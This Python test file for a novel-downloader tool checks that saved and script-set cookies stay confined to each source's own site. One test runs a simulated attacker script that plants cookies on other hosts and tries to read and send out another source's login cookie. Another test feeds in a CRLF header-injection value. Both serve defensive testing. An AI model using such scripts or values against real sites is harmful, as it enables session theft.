"""Item 2 of the safety model: a cookie belongs to one source and goes only to its own site.

Sources here live on 127.0.0.2 and 127.0.0.3; what their pages link to lives on 127.0.0.1 (the
sources are allowed local addresses, so only the cookie rules are under test). A cookie saved for
one source must reach its own host only: not the other source, not a linked host, not a cover.
"""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path

from yarl import URL

from novelfetch.core.jobs.downloader import Downloader, DownloadOptions
from novelfetch.core.net.cookies import SiteCookies
from novelfetch.core.net.http import HttpSettings
from novelfetch.core.net.retry import RetryPolicy
from novelfetch.core.sources import SourceRegistry
from novelfetch.core.sources.memory import MemoryDict
from novelfetch.core.sources.search import search_sources
from novelfetch.core.store.chapter_store import Store
from tests.cli_support import run_cli
from tests.hostile.sites import Site, rule, rule_file, serving

QUICK = HttpSettings(connect_timeout=2.0, read_timeout=5.0)
SECRET = "sid=LOGIN-SECRET-4f2a9c"


def import_rules(
    data: Path, *rules: dict[str, object], other_sites: bool = True
) -> tuple[SourceRegistry, list[str]]:
    """``other_sites``: the sources may reach other sites with a cookie (confinement to their
    own site is ``test_cookie_confinement.py``'s subject, not this file's)."""
    registry = SourceRegistry(data)
    lines = registry.import_text(rule_file(*rules), "test").lines
    ids = [line.source_id for line in lines if line.source_id]
    assert len(ids) == len(rules), lines
    for source_id in ids:
        registry.set_allow_local(source_id, True)  # links go to 127.0.0.1: not under test here
        registry.set_allow_other_sites(source_id, other_sites)
    return registry, ids


async def search_all(registry: SourceRegistry, ids: list[str]) -> None:
    entries = [registry.get(source_id) for source_id in ids]
    async for outcome in search_sources(entries, "青云", http=QUICK, memory=MemoryDict()):
        assert outcome.ok, outcome.error


async def download(registry: SourceRegistry, source_id: str, book: str, store: Path) -> None:
    options = DownloadOptions(source=source_id, concurrency=1, retry=RetryPolicy(0), http=QUICK)
    with Store(store) as opened:
        async with Downloader(opened, options, registry=registry) as job:
            result = await job.fetch(await job.load(book))
    assert result.fetched == 1, result.failures


async def test_a_saved_cookie_goes_only_to_its_own_site(tmp_path: Path) -> None:
    async with (
        serving(Site(), "127.0.0.1") as linked,
        serving(Site(), "127.0.0.2") as own,
        serving(Site(), "127.0.0.3") as other,
    ):
        own.chapter_link = linked.url("/chapter")  # the catalog links to another host
        own.cover_link = linked.url("/cover.png")
        registry, (own_id, other_id) = import_rules(
            tmp_path / "data", rule(own.base, name="own"), rule(other.base, name="other")
        )
        registry.set_cookie(own_id, SECRET)
        await search_all(registry, [own_id, other_id])
        await download(registry, own_id, own.url("/book"), tmp_path / "store.sqlite3")
    assert own.paths()[0] == "/search" and set(own.paths()[1:]) == {"/book"}
    assert own.cookies_sent() == [SECRET] * len(own.seen)  # every request to its own site
    assert other.paths() == ["/search"] and other.cookies_sent() == []  # the other source
    assert linked.paths() == ["/chapter"] and linked.cookies_sent() == []  # a linked host


def test_its_own_site_is_its_host_and_subdomains_only() -> None:
    cookies = SiteCookies.for_source("https://www.example.com/", SECRET)
    for allowed in ("https://example.com/a", "https://www.example.com/", "http://m.example.com/"):
        assert cookies.header_for(URL(allowed)) == SECRET, allowed
    for refused in (
        "https://example.com.evil.net/",
        "https://notexample.com/",
        "https://evil.net/?example.com",
        "https://127.0.0.1/",
    ):
        assert cookies.header_for(URL(refused)) == "", refused


async def test_a_search_cookie_needs_exactly_one_source(tmp_path: Path) -> None:
    data = ["--data-dir", str(tmp_path / "data"), "--store-dir", str(tmp_path / "store")]
    everywhere = await run_cli("search", "青云", "--cookie", SECRET, *data)
    assert everywhere.code == 2
    assert "--source" in everywhere.err and "LOGIN-SECRET" not in everywhere.err
    two = await run_cli(
        "search", "青云", "--cookie", SECRET, "--source", "sample", "--source", "baidu", *data
    )
    assert two.code == 2
    one = await run_cli("search", "青云", "--cookie", SECRET, "--source", "sample", *data)
    assert one.code == 0, one.err


async def test_the_saved_cookie_is_private_and_never_printed(tmp_path: Path) -> None:
    data = tmp_path / "data"
    async with serving(Site(), "127.0.0.2") as own:
        _, (source_id,) = import_rules(data, rule(own.base))
        saved = await run_cli("sources", "cookie", source_id, SECRET, "--data-dir", str(data))
        assert saved.code == 0, saved.err
        assert "LOGIN-SECRET" not in saved.out + saved.err
        listed = await run_cli("sources", "list", "--json", "--data-dir", str(data))
        assert "LOGIN-SECRET" not in listed.out
        facts = {fact["id"]: fact for fact in json.loads(listed.out)}
        assert facts[source_id]["has_cookie"] is True
        found = await run_cli(
            "search", "青云", "--source", source_id, "--data-dir", str(data),
            "--store-dir", str(tmp_path / "store"),
        )  # fmt: skip
        assert found.code == 0 and "LOGIN-SECRET" not in found.out + found.err
        assert own.cookies_sent() == [SECRET]
    cookie_file = data / "cookies.json"
    assert "LOGIN-SECRET" in cookie_file.read_text(encoding="utf-8")
    assert "LOGIN-SECRET" not in (data / "sources.json").read_text(encoding="utf-8")
    if sys.platform != "win32":
        assert stat.S_IMODE(os.stat(cookie_file).st_mode) == 0o600
    cleared = await run_cli("sources", "cookie", source_id, "--clear", "--data-dir", str(data))
    assert cleared.code == 0
    assert "LOGIN-SECRET" not in cookie_file.read_text(encoding="utf-8")
    bad = await run_cli("sources", "cookie", source_id, "a=b\nc=d", "--data-dir", str(data))
    assert bad.code == 2 and "one line" in bad.err


async def test_a_cookie_jar_keeps_what_its_own_site_sets_and_nothing_else(tmp_path: Path) -> None:
    data = tmp_path / "data"
    async with serving(Site(), "127.0.0.1") as linked, serving(Site(), "127.0.0.2") as own:
        own.sets_cookies = ("session=from-the-site; Path=/; Max-Age=3600", "gone=x; Max-Age=0")
        linked.sets_cookies = ("tracker=from-elsewhere; Path=/",)
        own.chapter_link = linked.url("/chapter")  # a linked host that sets a cookie too
        registry, (source_id,) = import_rules(data, rule(own.base, cookie_jar=True))
        await search_all(registry, [source_id])
        await download(registry, source_id, own.url("/book"), tmp_path / "store.sqlite3")
        first_run = len(own.seen)
        # A later run (a new registry reads what was kept) sends it back, to its own site only.
        later = SourceRegistry(data)
        assert later.get(source_id).cookie() == ""  # the jar is not the user's cookie
        await search_all(later, [source_id])
    sent = [cookie for _, cookie in own.seen]
    assert sent[0] == "" and sent[first_run:] == ["session=from-the-site"]
    assert linked.paths() == ["/chapter"] and linked.cookies_sent() == []
    kept = json.loads((data / "cookies.json").read_text(encoding="utf-8"))
    jar = kept["sources"][source_id]["jar"]
    assert set(jar) == {"session"}  # not "gone" (expired), not the linked host's tracker
    assert "LOGIN" not in json.dumps(kept)


async def test_an_update_cookie_goes_to_one_source_only(tmp_path: Path) -> None:
    folders = ["--data-dir", str(tmp_path / "data"), "--store-dir", str(tmp_path / "store")]
    async with serving(Site(), "127.0.0.2") as own:
        _, (source_id,) = import_rules(tmp_path / "data", rule(own.base))
        for book, source in (("1", "sample"), (own.url("/book"), source_id)):
            got = await run_cli("download", book, "--source", source, "-o", tmp_path, *folders)
            assert got.code == 0, got.err
        both = await run_cli("update", "--all", "--check-only", "--cookie", SECRET, *folders)
        assert both.code == 2 and "one source" in both.err
        assert own.cookies_sent() == []
        one = await run_cli("update", "sample:1", "--check-only", "--cookie", SECRET, *folders)
        assert one.code == 0, one.err


def test_a_damaged_cookie_file_is_set_aside_not_fatal(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "cookies.json").write_text('{"sources": {"baidu": {"cookie": "BDUSS=', "utf-8")
    registry = SourceRegistry(data)
    assert registry.get("baidu").cookie() == ""
    assert (data / "cookies.json.damaged").exists()
    registry.set_cookie("baidu", SECRET)
    assert SourceRegistry(data).get("baidu").cookie() == SECRET


async def test_a_script_reaches_its_own_sites_cookies_and_no_one_elses(tmp_path: Path) -> None:
    """An attacker's script sets a cookie for another host and for another source's site,
    asks both, and reads the other source's cookie: it gets nothing, and sends nothing."""
    async with (
        serving(Site(), "127.0.0.1") as linked,
        serving(Site(), "127.0.0.2") as own,
        serving(Site(), "127.0.0.3") as other,
    ):
        there, elsewhere = other.base, linked.base
        script = (
            f"<js>cookie.setCookie('{elsewhere}', 'stolen=1'); java.ajax('{elsewhere}status');"
            f"cookie.setCookie('{there}', 'planted=1'); java.ajax('{there}status');"
            "cookie.replaceCookie(source.getKey(), 'mine=1');"
            f"var read = cookie.getCookie('{there}') + '|' + cookie.getKey('{there}', 'sid');"
            "'/search?q=' + encodeURIComponent(read + '|' + cookie.getCookie(baseUrl))</js>"
        )  # fmt: skip
        registry, (own_id, other_id) = import_rules(
            tmp_path / "data",
            rule(own.base, name="own", search_url=script),
            rule(other.base, name="other"),
        )
        registry.set_cookie(own_id, "user=me")  # the user's own cookie for the source stays
        registry.set_cookie(other_id, SECRET)
        await search_all(registry, [own_id, other_id])
    assert linked.seen == [("/status", "")]
    # The own source's request to the other site carries neither the plant nor its cookie;
    # the other source's own search (run at the same time) carries its cookie only.
    assert sorted(other.seen) == [("/search", SECRET), ("/status", "")]
    ((path, sent),) = own.seen
    assert path == "/search" and sent == "user=me; mine=1"
    # What the script read: nothing of the other source, its own site's cookie in full.
    assert own.queries == ["||user=me; mine=1"]


async def test_a_script_reads_what_its_site_set(tmp_path: Path) -> None:
    async with serving(Site(), "127.0.0.2") as own:
        own.sets_cookies = ("session=from-the-site; Path=/",)
        source = rule(own.base, cookie_jar=True)
        source["ruleSearch"]["name"] = "tag.a@text@js:result + cookie.getKey(baseUrl, 'session')"  # type: ignore[index]
        registry, (source_id,) = import_rules(tmp_path / "data", source)
        (entry,) = [registry.get(source_id)]
        async for outcome in search_sources([entry], "青云", http=QUICK, memory=MemoryDict()):
            assert outcome.ok, outcome.error
            assert [r.title for r in outcome.results] == ["青云志from-the-site"]


def test_what_a_script_sets_is_kept_for_its_site_only_and_the_users_cookie_stays() -> None:
    kept: list[dict[str, object]] = []
    cookies = SiteCookies.for_source("https://www.example.com/", "u=me", jar={})
    cookies.on_close = kept.append
    assert cookies.write("https://m.example.com/x", "a=1; b=2")
    assert cookies.write("https://example.com", "b=3", merge=True)  # replaceCookie
    assert cookies.read("https://example.com/") == "u=me; a=1; b=3"
    assert cookies.write("https://example.com", "c=4")  # setCookie: replaces what scripts set
    assert cookies.read("https://www.example.com/") == "u=me; c=4"
    for foreign in ("https://evil.net/", "https://example.com.evil.net/", "example.com", "x"):
        assert not cookies.write(foreign, "x=1") and cookies.read(foreign) == ""
    assert not cookies.write("https://example.com", "a=1\r\nX-Evil: 1")
    cookies.close()  # a source that keeps a jar keeps what its scripts set, with it
    assert kept == [{"c": {"value": "4", "expires": None}}]
    cookies.forget("https://example.com/")
    assert cookies.header_for(URL("https://example.com/")) == "u=me"


async def test_a_rules_cookie_header_is_merged_with_the_sources_own_on_its_site(
    tmp_path: Path,
) -> None:
    """As Legado merges its cookie store with a rule's Cookie header (the rule's pairs win);
    the source's own cookie still goes to its own site only."""
    async with serving(Site(), "127.0.0.1") as linked, serving(Site(), "127.0.0.2") as own:
        own.chapter_link = linked.url("/chapter")
        source = {**rule(own.base), "header": '{"Cookie": "rule=1; sid=from-rule; 0"}'}
        registry, (source_id,) = import_rules(tmp_path / "data", source)
        registry.set_cookie(source_id, f"{SECRET}; user=me")
        await search_all(registry, [source_id])
        await download(registry, source_id, own.url("/book"), tmp_path / "store.sqlite3")
    assert set(own.cookies_sent()) == {"sid=from-rule; user=me; rule=1"}
    assert linked.cookies_sent() == ["rule=1; sid=from-rule; 0"]  # the rule's, as written


async def test_a_search_url_that_removes_cookies_clears_the_kept_jar(tmp_path: Path) -> None:
    async with serving(Site(), "127.0.0.2") as own:
        own.sets_cookies = ("delay=from-the-last-search; Path=/; Max-Age=3600",)
        search_url = "{{cookie.removeCookie(source.getKey())}}/search?q={{key}}"
        registry, (source_id,) = import_rules(
            tmp_path / "data", rule(own.base, search_url=search_url, cookie_jar=True)
        )
        registry.set_cookie(source_id, "user=me")
        await search_all(registry, [source_id])
        await search_all(SourceRegistry(tmp_path / "data"), [source_id])  # a later run
    # The jar kept what the first search set, and the second search cleared it first; the
    # user's cookie stays.
    assert own.cookies_sent() == ["user=me", "user=me"]
